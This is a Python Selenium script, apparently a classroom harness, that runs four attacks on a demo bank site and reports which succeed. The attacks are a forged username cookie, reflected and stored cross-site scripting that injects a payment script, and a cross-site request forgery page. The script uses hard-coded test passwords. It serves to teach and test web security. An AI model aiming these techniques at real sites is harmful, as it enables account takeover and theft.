"""Four attacks on a bank, with a browser that a victim could have.

    Attacks(chrome, "http://www.example.com:5000/", "http://kittens.test:8000/").forged_cookie()

Each says whether it has worked.
"""

from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote, urljoin, urlsplit

from selenium.common.exceptions import TimeoutException, WebDriverException
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from selenium.webdriver.support.expected_conditions import staleness_of, url_changes
from selenium.webdriver.support.wait import WebDriverWait

PASSWORDS = {"brandon": "atigdng", "sam": "xyzzy"}
SCRIPT = Path(__file__).with_name("attack.js").read_text().strip()


class Attacks:
    """On the site *bank*, from *attacker*; money may take *patience* seconds to arrive."""

    def __init__(self, chrome: Chrome, bank: str, attacker: str, patience: float = 20) -> None:
        self.chrome, self.bank, self.attacker, self.patience = chrome, bank, attacker, patience
        self.login("brandon")
        self.pay = chrome.find_element(By.LINK_TEXT, "Pay somebody").get_attribute("href") or ""
        self.script = SCRIPT.replace("/pay", urlsplit(self.pay).path)

    def fill(self, *texts: str) -> None:
        """Fill in the page's form, press its button, and wait for the next page."""
        fields = self.chrome.find_elements(By.CSS_SELECTOR, "form input:not([type=hidden])")
        for field, text in zip(fields, texts, strict=True):
            field.send_keys(text)
        (button := self.chrome.find_element(By.CSS_SELECTOR, "form button")).click()
        # While a page goes, chromedriver may find it half gone.
        WebDriverWait(self.chrome, 20, 0.1, [WebDriverException]).until(staleness_of(button))

    def login(self, name: str) -> None:
        self.chrome.get("about:blank")  # where no script of the bank runs
        self.chrome.execute_cdp_cmd("Network.clearBrowserCookies", {})
        self.chrome.get(self.bank)
        self.fill(name, PASSWORDS[name])

    def count(self, to: str) -> int:
        self.chrome.get(self.bank)
        return sum(f" to {to} " in i.text for i in self.chrome.find_elements(By.TAG_NAME, "li"))

    def moves_money(self, to: str, attack: Callable[[], None]) -> bool:
        """Whether there is a new payment to *to* after *attack*."""
        before = self.count(to)
        attack()
        with suppress(TimeoutException):
            wait = WebDriverWait(self.chrome, self.patience, 0.2, [WebDriverException])
            return bool(wait.until(lambda _: self.count(to) > before))
        return False

    def forged_cookie(self) -> bool:
        """Call yourself sam."""
        self.chrome.get(self.bank)
        self.chrome.delete_all_cookies()
        self.chrome.add_cookie({"name": "username", "value": "sam"})
        self.chrome.get(self.bank)
        return "Welcome, sam" in self.chrome.page_source

    def reflected_script(self) -> bool:
        """Get brandon to follow a link into his own bank."""
        self.login("brandon")
        link = urljoin(self.bank, f"?flash={quote(self.script)}")
        return self.moves_money("hacker", lambda: self.chrome.get(link))

    def stored_script(self) -> bool:
        """As sam, pay brandon a dollar, with a script for a memo; wait until he looks."""
        self.login("sam")
        self.chrome.get(self.pay)
        self.fill("brandon", "1", self.script)
        self.login("brandon")
        return self.moves_money("hacker", lambda: self.chrome.get(self.bank))

    def forged_form(self) -> bool:
        """Show brandon a page with kittens."""
        self.login("brandon")
        page = urljoin(self.attacker, f"csrf_auto.html#{self.pay}")
        return self.moves_money("sam", lambda: self.visit(page))

    def visit(self, page: str) -> None:
        self.chrome.get(page)
        WebDriverWait(self.chrome, 20).until(url_changes(page))  # it has sent its form
